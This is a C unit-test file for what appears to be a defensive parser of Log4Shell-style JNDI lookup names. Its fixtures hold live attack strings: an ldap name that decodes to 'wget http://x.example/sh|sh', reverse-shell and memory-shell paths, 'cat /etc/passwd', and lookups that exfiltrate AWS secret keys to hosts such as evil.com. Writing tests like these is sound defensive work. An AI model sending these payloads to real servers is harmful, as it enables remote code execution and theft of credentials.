/*
 * test_callback.c -- unit tests of lib/callback.c: JNDI names split into
 * scheme/host/port/path, exfiltration keys, JNDIExploit commands, and the
 * adversarial cases (${...} holding ':', '}' and '/', unclosed lookups,
 * huge names, bounds).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "internal.h"

static defuse__arena arena;

static int setup(void **state) {
    (void)state;
    defuse__arena_init(&arena, 0);
    return 0;
}

static int teardown(void **state) {
    (void)state;
    defuse__arena_free(&arena);
    return 0;
}

static void eq_str(const char *name, const char *field, const char *got, const char *want) {
    if (!want && !got)
        return;
    if (!want || !got || strcmp(got, want) != 0)
        fail_msg("%s: %s = %s%s%s, want %s%s%s", name, field, got ? "\"" : "", got ? got : "NULL",
                 got ? "\"" : "", want ? "\"" : "", want ? want : "NULL", want ? "\"" : "");
}

typedef struct expect {
    const char *name;
    const char *scheme, *host;
    int port;
    const char *path;
    const char *command;
    unsigned techniques;
    const char *exfil[4];
} expect;

static const expect cases[] = {
    {"ldap://evil.com/a", "ldap", "evil.com", -1, "a", NULL, 0, {NULL}},
    {"LDAP://Evil.COM:1389/a", "ldap", "Evil.COM", 1389, "a", NULL, 0, {NULL}},
    {"ldaps://x:636", "ldaps", "x", 636, NULL, NULL, 0, {NULL}},
    {"rmi://127.0.0.1:1099/Object", "rmi", "127.0.0.1", 1099, "Object", NULL, 0, {NULL}},
    {"dns://x.dnslog.cn/a", "dns", "x.dnslog.cn", -1, "a", NULL, 0, {NULL}},
    {"iiop://h:900/x", "iiop", "h", 900, "x", NULL, 0, {NULL}},
    {"corba://h/x", "corba", "h", -1, "x", NULL, 0, {NULL}},
    {"nds://h/x", "nds", "h", -1, "x", NULL, 0, {NULL}},
    {"nis://h/x", "nis", "h", -1, "x", NULL, 0, {NULL}},
    {"http://h:8080/x/y", "http", "h", 8080, "x/y", NULL, 0, {NULL}},
    {"https://h/", "https", "h", -1, NULL, NULL, 0, {NULL}},
    {"java:comp/env/jdbc/ds", "java", NULL, -1, "comp/env/jdbc/ds", NULL, 0, {NULL}},
    {"foo", NULL, NULL, -1, "foo", NULL, 0, {NULL}},
    {"ldap:/x.com/a", "ldap", "x.com", -1, "a", NULL, 0, {NULL}},
    {"ldap://127.0.0.1#evil.com:1389/a", "ldap", "127.0.0.1#evil.com", 1389, "a", NULL,
     DEFUSE_TECH_HASH_BYPASS, {NULL}},
    {"ldap://[::1]:1389/a", "ldap", "[::1]", 1389, "a", NULL, 0, {NULL}},
    {"ldap://[fe80::1]/a", "ldap", "[fe80::1]", -1, "a", NULL, 0, {NULL}},
    {"ldap://${env:USER}.x.com/e", "ldap", "${env:USER}.x.com", -1, "e", NULL, DEFUSE_TECH_EXFIL,
     {"env:USER"}},
    {"ldap://${env:A}:${sys:b}.x.com:389/a", "ldap", "${env:A}:${sys:b}.x.com", 389, "a", NULL,
     DEFUSE_TECH_EXFIL, {"env:A", "sys:b"}},
    {"ldap://x.com:${env:PORT}/a", "ldap", "x.com:${env:PORT}", -1, "a", NULL, DEFUSE_TECH_EXFIL,
     {"env:PORT"}},
    {"ldap://x.com:abc/a", "ldap", "x.com:abc", -1, "a", NULL, 0, {NULL}},
    {"ldap://x.com:70000/a", "ldap", "x.com:70000", -1, "a", NULL, 0, {NULL}},
    {"ldap://x.com:/a", "ldap", "x.com", -1, "a", NULL, 0, {NULL}},
    {"ldap://${a/b}.x/c", "ldap", "${a/b}.x", -1, "c", NULL, DEFUSE_TECH_EXFIL, {"a/b"}},
    {"ldap://${x:-}}.h/p", "ldap", "${x:-}}.h", -1, "p", NULL, DEFUSE_TECH_EXFIL, {"x"}},
    {"dns://${hostName}.${ENV:AWS_SECRET_ACCESS_KEY}.${sys:java.version}.${java:os}.x",
     "dns", "${hostName}.${ENV:AWS_SECRET_ACCESS_KEY}.${sys:java.version}.${java:os}.x", -1, NULL,
     NULL, DEFUSE_TECH_EXFIL, {"hostName", "env:AWS_SECRET_ACCESS_KEY", "sys:java.version", "java:os"}},
    {"ldap://x/${ctx:loginId}/${ctx:loginId}/${env:U:-d}", "ldap", "x", -1,
     "${ctx:loginId}/${ctx:loginId}/${env:U:-d}", NULL, DEFUSE_TECH_EXFIL, {"ctx:loginId", "env:U"}},
    {"ldap://user:pw@h:1/x", "ldap", "h", 1, "x", NULL, 0, {NULL}},
    {"ldap://x/${unclosed", "ldap", "x", -1, "${unclosed", NULL, 0, {NULL}},
    {"ldap://${unclosed/a", "ldap", "${unclosed/a", -1, NULL, NULL, 0, {NULL}},
    {"ldap://", "ldap", NULL, -1, NULL, NULL, 0, {NULL}},
    {"ldap:", "ldap", NULL, -1, NULL, NULL, 0, {NULL}},
    {":x", NULL, NULL, -1, ":x", NULL, 0, {NULL}},
    {"${jndi:x}:y", NULL, NULL, -1, "${jndi:x}:y", NULL, DEFUSE_TECH_EXFIL, {"jndi:x"}},
    /* JNDIExploit */
    {"ldap://x.example/Basic/Command/Base64/d2dldCBodHRwOi8veC5leGFtcGxlL3NofHNo", "ldap",
     "x.example", -1, "Basic/Command/Base64/d2dldCBodHRwOi8veC5leGFtcGxlL3NofHNo",
     "wget http://x.example/sh|sh", DEFUSE_TECH_JNDIEXPLOIT, {NULL}},
    {"ldap://h:1389/basic/command/base64/aWQ%3D", "ldap", "h", 1389, "basic/command/base64/aWQ%3D",
     "id", DEFUSE_TECH_JNDIEXPLOIT, {NULL}},
    /* Base64 may hold '/': the command is the rest of the path. */
    {"ldap://h/Basic/Command/Base64/Y2F0IC9ldGMvcGFzc3dk", "ldap", "h", -1,
     "Basic/Command/Base64/Y2F0IC9ldGMvcGFzc3dk", "cat /etc/passwd", DEFUSE_TECH_JNDIEXPLOIT, {NULL}},
    {"ldap://h/Basic/Command/Base64/P/8/", "ldap", "h", -1, "Basic/Command/Base64/P/8/",
     "?\\xff?", DEFUSE_TECH_JNDIEXPLOIT, {NULL}},
    {"ldap://h/Basic/Command/curl%20x.com%2Fa/b", "ldap", "h", -1,
     "Basic/Command/curl%20x.com%2Fa/b", "curl x.com/a/b", DEFUSE_TECH_JNDIEXPLOIT, {NULL}},
    {"ldap://h/TomcatBypass/Command/Base64/aWQ=", "ldap", "h", -1,
     "TomcatBypass/Command/Base64/aWQ=", "id", DEFUSE_TECH_JNDIEXPLOIT, {NULL}},
    {"ldap://h/GroovyBypass/Command/whoami", "ldap", "h", -1, "GroovyBypass/Command/whoami",
     "whoami", DEFUSE_TECH_JNDIEXPLOIT, {NULL}},
    {"ldap://h/Deserialization/CommonsCollectionsK1/Command/Base64/aWQ=", "ldap", "h", -1,
     "Deserialization/CommonsCollectionsK1/Command/Base64/aWQ=", "id", DEFUSE_TECH_JNDIEXPLOIT,
     {NULL}},
    {"ldap://h/Base64//aWQ=", "ldap", "h", -1, "Base64//aWQ=", "id", DEFUSE_TECH_JNDIEXPLOIT, {NULL}},
    {"ldap://h/Basic/ReverseShell/10.0.0.1/4444", "ldap", "h", -1,
     "Basic/ReverseShell/10.0.0.1/4444", "reverse shell to 10.0.0.1:4444", DEFUSE_TECH_JNDIEXPLOIT,
     {NULL}},
    {"ldap://h/Basic/Dnslog/x.dnslog.cn", "ldap", "h", -1, "Basic/Dnslog/x.dnslog.cn",
     "dns log to x.dnslog.cn", DEFUSE_TECH_JNDIEXPLOIT, {NULL}},
    {"ldap://h/TomcatBypass/TomcatMemshell1", "ldap", "h", -1, "TomcatBypass/TomcatMemshell1",
     "memory shell (TomcatMemshell1)", DEFUSE_TECH_JNDIEXPLOIT, {NULL}},
    {"ldap://h/Basic/SpringEcho", "ldap", "h", -1, "Basic/SpringEcho", "echo (SpringEcho)",
     DEFUSE_TECH_JNDIEXPLOIT, {NULL}},
    /* Control bytes in a command are rendered, never passed raw. */
    {"ldap://h/Basic/Command/Base64/aWQKG1sybQ==", "ldap", "h", -1,
     "Basic/Command/Base64/aWQKG1sybQ==", "id\\x0a\\x1b[2m", DEFUSE_TECH_JNDIEXPLOIT, {NULL}},
    /* Not Base64: the server's decoder throws, no command runs. */
    {"ldap://h/Basic/Command/Base64/!!!", "ldap", "h", -1, "Basic/Command/Base64/!!!", NULL,
     DEFUSE_TECH_JNDIEXPLOIT, {NULL}},
    {"ldap://h:1389/TomcatBypass/Command/Base64/XXXXX", "ldap", "h", 1389,
     "TomcatBypass/Command/Base64/XXXXX", NULL, DEFUSE_TECH_JNDIEXPLOIT, {NULL}},
    {"ldap://h/Basic/Command/Base64//XXXX", "ldap", "h", -1, "Basic/Command/Base64//XXXX", NULL,
     DEFUSE_TECH_JNDIEXPLOIT, {NULL}},
    /* Benign names carry no command. */
    {"ldap://ldap.corp:389/ou=people,dc=corp", "ldap", "ldap.corp", 389, "ou=people,dc=corp", NULL,
     0, {NULL}},
    {"ldap://h/Command", "ldap", "h", -1, "Command", NULL, 0, {NULL}},
};

static void test_cases(void **state) {
    (void)state;
    for (size_t i = 0; i < DEFUSE_ARRAY_LEN(cases); i++) {
        const expect *e = &cases[i];
        defuse__callback_info o;
        defuse__arena_reset(&arena);
        assert_int_equal(defuse__callback_parse(e->name, strlen(e->name), &arena, &o), 0);
        eq_str(e->name, "scheme", o.scheme, e->scheme);
        eq_str(e->name, "host", o.host, e->host);
        if (o.port != e->port)
            fail_msg("%s: port = %d, want %d", e->name, o.port, e->port);
        eq_str(e->name, "path", o.path, e->path);
        eq_str(e->name, "command", o.command, e->command);
        if (o.techniques != e->techniques)
            fail_msg("%s: techniques = %#x, want %#x", e->name, o.techniques, e->techniques);
        size_t nx = 0;
        while (nx < 4 && e->exfil[nx])
            nx++;
        if (o.nexfil != nx)
            fail_msg("%s: %zu exfil keys, want %zu", e->name, o.nexfil, nx);
        for (size_t k = 0; k < nx; k++)
            eq_str(e->name, "exfil", o.exfil[k], e->exfil[k]);
    }
}

static void test_bounds(void **state) {
    (void)state;
    /* More distinct victim values than reported: bounded, deduplicated. */
    char name[4096];
    size_t w = (size_t)snprintf(name, sizeof name, "ldap://");
    for (int i = 0; i < 40; i++)
        w += (size_t)snprintf(name + w, sizeof name - w, "${env:V%d}.${env:V%d}.", i, i);
    w += (size_t)snprintf(name + w, sizeof name - w, "x.com/a");
    defuse__callback_info o;
    assert_int_equal(defuse__callback_parse(name, w, &arena, &o), 0);
    assert_int_equal(o.nexfil, DEFUSE_MAX_REPORTED_EXFIL);
    assert_string_equal(o.exfil[0], "env:V0");
    assert_string_equal(o.exfil[15], "env:V15");
    assert_true(o.techniques & DEFUSE_TECH_EXFIL);

    /* Empty and NULL names. */
    assert_int_equal(defuse__callback_parse("", 0, &arena, &o), 0);
    assert_null(o.scheme);
    assert_null(o.host);
    assert_null(o.path);
    assert_int_equal(o.port, -1);

    /* NUL bytes inside a name do not cut it short. */
    const char nul[] = "ldap://h\0x/a";
    assert_int_equal(defuse__callback_parse(nul, sizeof nul - 1, &arena, &o), 0);
    assert_string_equal(o.path, "a");
    assert_memory_equal(o.host, "h\0x", 4);

    /* An arena limit gives ENOMEM, not a crash. */
    defuse__arena small;
    defuse__arena_init(&small, 64);
    int rc = defuse__callback_parse(name, w, &small, &o);
    assert_int_equal(rc, DEFUSE_ENOMEM);
    defuse__arena_free(&small);
}

/* CPU time of this process in ms: robust when the machine is shared. */
static double now_ms(void) { return (double)clock() * 1000.0 / CLOCKS_PER_SEC; }

static void test_linear(void **state) {
    (void)state;
    /* 1 MB names of nested or many lookups, colons and slashes. */
    const size_t N = 1u << 20;
    char *buf = malloc(N);
    assert_non_null(buf);
    const char *pats[] = {"${", "${a}", ":", "/", "}", "${x:-/}"};
    for (size_t p = 0; p < DEFUSE_ARRAY_LEN(pats); p++) {
        memcpy(buf, "ldap://", 7);
        size_t L = strlen(pats[p]);
        for (size_t i = 7; i < N; i++)
            buf[i] = pats[p][(i - 7) % L];
        defuse__arena_reset(&arena);
        defuse__callback_info o;
        double t0 = now_ms();
        assert_int_equal(defuse__callback_parse(buf, N, &arena, &o), 0);
        double ms = now_ms() - t0;
        print_message("1 MiB name of \"%s\": %.2f ms CPU\n", pats[p], ms);
        assert_true(ms < 2000.0);
    }
    free(buf);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_cases),
        cmocka_unit_test(test_bounds),
        cmocka_unit_test(test_linear),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
